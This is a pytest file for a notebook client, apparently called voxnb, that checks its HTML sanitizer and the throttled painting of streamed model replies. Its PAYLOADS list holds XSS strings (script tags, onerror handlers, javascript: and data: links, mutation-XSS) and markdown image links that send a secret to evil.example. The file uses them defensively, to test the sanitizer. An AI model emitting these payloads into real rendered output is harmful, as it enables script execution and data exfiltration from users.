"""Safe HTML of model text, and a turn painted in a cell or on a terminal."""

import html.parser
import re
import threading
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from voxnb.clients.turn import Reply, Turn
from voxnb.errors import RateLimitError, StreamBrokenError
from voxnb.notebook import render
from voxnb.runtime import loop

PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![pixel](https://evil.example/p.png?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "[click](/api/shutdown)",
    "[click](//evil.example)",
    "[click](http:/api/shutdown)",
    "[click](../lab?reset)",
    "<javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import url(https://evil.example)</style>",
    "<a href='javascript:x' onclick=y style='background:url(https://evil.example)'>a</a>",
    "<div data-commandlinker-command='x' id='y' class='z'>d</div>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "</div></div><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '[a](https://ok.example "x\\" onmouseover=alert(1) ")',
    "\x00<script>\x00alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]


class Inspector(html.parser.HTMLParser):
    """Collects what is in the markup, as a browser would see it."""

    def __init__(self):
        super().__init__()
        self.tags = []
        self.attributes = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data):
        self.text.append(data)


def inspect(markup):
    inspector = Inspector()
    inspector.feed(markup)
    inspector.close()
    return inspector


def assert_harmless(markup, *, allowed=frozenset()):
    found = inspect(markup)
    assert set(found.tags) <= render.TAGS | allowed
    for tag, name, value in found.attributes:
        assert (tag, name) in {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start"), ("div", "class")}
        if name == "href":
            assert re.match(r"https?://|mailto:", value, re.IGNORECASE)
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_text_can_neither_run_nor_fetch_anything(payload):
    assert_harmless(render.markdown_html(payload))
    reply = Reply(
        text=payload,
        refusal=payload,
        tool_calls=({"id": "1", "type": "function", "function": {"name": payload, "arguments": payload}},),
        warnings=(payload,),
    )
    assert_harmless(render.reply_html(reply), allowed=frozenset(["div"]))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "\n\n", "> ", "- ", "1. ", "*", "`", "[", "](", ")", "<", ">", '"', "&", "a"]),
        max_size=12,
    )
)
def test_no_mixture_of_payloads_gets_through(parts):
    assert_harmless(render.markdown_html("".join(parts)))


def test_markdown_is_rendered():
    text = "# Title\n\nSome *words*, `code` and [a link](https://example.org).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n3. three\n"
    found = inspect(render.markdown_html(text))
    assert {"h1", "em", "code", "a", "table", "th", "td", "ol", "li"} <= set(found.tags)
    assert ("a", "href", "https://example.org") in found.attributes
    assert ("ol", "start", "3") in found.attributes


def test_html_in_model_text_is_shown_as_it_is_written():
    assert "<b>bold</b>" in "".join(inspect(render.markdown_html("this is <b>bold</b>")).text)


def test_tex_is_not_typeset_in_model_text():
    assert 'class="voxnb-reply tex2jax_ignore mathjax_ignore"' in render.reply_html(
        Reply(text=r"$\href{javascript:x}{y}$")
    )


def test_plain_text_has_no_escape_sequences():
    assert render.plain("a\x1b[31mred\x07\x9b\tb\nc\r\x7f") == "a[31mred\tb\nc"


def test_a_replys_bundle_has_safe_html_and_plain_text_and_no_markdown():
    reply = Reply(text="**Hi** <script>", warnings=("a fold failed",))
    bundle = reply._repr_mimebundle_()
    assert set(bundle) == {"text/plain", "text/html"}
    assert "<strong>Hi</strong>" in bundle["text/html"]
    assert "<script>" not in bundle["text/html"]
    assert "a fold failed" in bundle["text/html"]
    assert "a fold failed" in bundle["text/plain"]


def test_an_empty_reply_and_a_tool_call_say_what_they_are():
    assert "empty reply" in render.reply_html(Reply())
    call = Reply(tool_calls=({"id": "1", "function": {"name": "weather", "arguments": '{"city": "Ulm"}'}},))
    assert 'weather({"city": "Ulm"})' in "".join(inspect(render.reply_html(call)).text)
    assert render.reply_plain(call) == 'Tool call: weather({"city": "Ulm"})'
    assert render.reply_plain(Reply(refusal="No.\x1b")) == "Refused: No."


# Painting: a turn driven by hand


class Recorder:
    """A canvas that notes when it was painted."""

    def __init__(self, *, paint_s=0.0):
        self.paints, self.ending, self.paint_s = [], None, paint_s

    def paint(self, text, status):
        self.paints.append((time.monotonic(), text, status))
        time.sleep(self.paint_s)

    def finish(self, turn, reply, status):
        self.ending = (turn.partial, reply, status)


def painted(turn, canvas):
    thread = threading.Thread(target=render._paint_quietly, args=(turn, canvas))
    thread.start()
    return thread


def until(condition, *, limit_s=5.0):
    deadline = time.monotonic() + limit_s
    while not condition():
        assert time.monotonic() < deadline, "it did not happen"
        time.sleep(0.001)


def end(turn, reply=None, error=None):
    loop.call_soon(turn._store, reply, error)
    loop.call_soon(turn._deliver)


def test_the_first_text_is_painted_at_once_and_a_burst_is_not_left_unpainted(monkeypatch):
    monkeypatch.setattr(render, "PAINTS_PER_S", 0.5)
    turn, canvas = Turn(client=None), Recorder()
    thread = painted(turn, canvas)
    until(lambda: canvas.paints)
    assert canvas.paints[0][1:] == ("", "waiting for the reply …")
    began = time.monotonic()
    loop.call_soon(turn._push, "a")
    until(lambda: len(canvas.paints) == 2)
    assert canvas.paints[1][0] - began < 1
    for _ in range(3):
        loop.call_soon(turn._push, "b")
    until(lambda: canvas.paints[-1][1] == "abbb")  # no further delta is needed for the trailing paint
    end(turn, Reply(text="abbb"))
    thread.join(5)
    assert canvas.ending[0] == "abbb"


def test_there_are_at_most_twenty_paints_a_second():
    turn, canvas = Turn(client=None), Recorder()
    thread = painted(turn, canvas)
    began = time.monotonic()
    while time.monotonic() - began < 1:
        loop.call_soon(turn._push, "x")
        time.sleep(0.001)
    end(turn, Reply(text="x"))
    thread.join(5)
    assert 3 <= len(canvas.paints) <= 23
    gaps = [later[0] - earlier[0] for earlier, later in zip(canvas.paints[1:], canvas.paints[2:-1], strict=False)]
    assert min(gaps) > 0.045


def test_slow_paints_take_a_small_share_of_the_time():
    turn, canvas = Turn(client=None), Recorder(paint_s=0.04)
    thread = painted(turn, canvas)
    began = time.monotonic()
    while time.monotonic() - began < 1:
        loop.call_soon(turn._push, "x")
        time.sleep(0.002)
    end(turn, Reply(text="x"))
    thread.join(5)
    assert len(canvas.paints) <= 7


def test_the_end_is_painted_at_once_even_after_a_paint():
    turn, canvas = Turn(client=None), Recorder(paint_s=0.3)
    loop.call_soon(turn._push, "x")
    thread = painted(turn, canvas)
    until(lambda: len(canvas.paints) == 2)
    began = time.monotonic()
    end(turn, Reply(text="x"))
    thread.join(5)
    assert time.monotonic() - began < 1
    assert canvas.ending[1].text == "x"


@pytest.mark.parametrize(
    ("error", "status"),
    [
        (RateLimitError("slow down"), "RateLimitError: slow down"),
        (StreamBrokenError("it broke"), "StreamBrokenError: it broke"),
    ],
)
def test_a_failure_is_painted_below_what_had_come(error, status):
    turn, canvas = Turn(client=None), Recorder()
    loop.call_soon(turn._push, "part")
    end(turn, None, error)
    render._paint_until_end(turn, canvas)
    assert canvas.ending == ("part", None, status)


def test_a_canvas_that_breaks_does_not_harm_the_turn():
    class Broken(Recorder):
        def paint(self, text, status):
            raise ValueError("closed")

    turn = Turn(client=None)
    painted(turn, Broken()).join(5)
    end(turn, Reply(text="fine"))
    assert turn.result(5).text == "fine"


# On a terminal


def test_on_a_terminal_the_text_streams_without_control_characters(capsys):
    turn = Turn(client=None)
    loop.call_soon(turn._push, "Hel\x1b[2J")
    loop.call_soon(turn._push, "lo")
    end(turn, Reply(text="Hello"))
    turn.show(wait=True)
    assert capsys.readouterr().out == "Hel[2Jlo\n"


def test_on_a_terminal_a_reply_without_deltas_and_a_failure_are_shown(capsys):
    turn = Turn(client=None)
    end(turn, Reply(tool_calls=({"id": "1", "function": {"name": "f", "arguments": "{}"}},)))
    turn.show(wait=True)
    assert capsys.readouterr().out == "Tool call: f({})\n"
    failed = Turn(client=None)
    end(failed, None, RateLimitError("slow down"))
    with pytest.raises(RateLimitError):
        failed.show(wait=True)
    assert capsys.readouterr().out == " [RateLimitError: slow down]\n"


def test_show_returns_at_once_and_paints_in_the_background(capsys):
    turn = Turn(client=None)
    assert turn.show() is None
    loop.call_soon(turn._push, "later")
    end(turn, Reply(text="later"))
    turn.result(5)
    until(lambda: not any(t.name == "voxnb-painter" for t in threading.enumerate()))
    assert capsys.readouterr().out == "later\n"


def test_the_repr_bundle_of_a_turn_never_waits():
    assert Turn(client=None)._repr_mimebundle_() == {"text/plain": "<Turn queued>"}
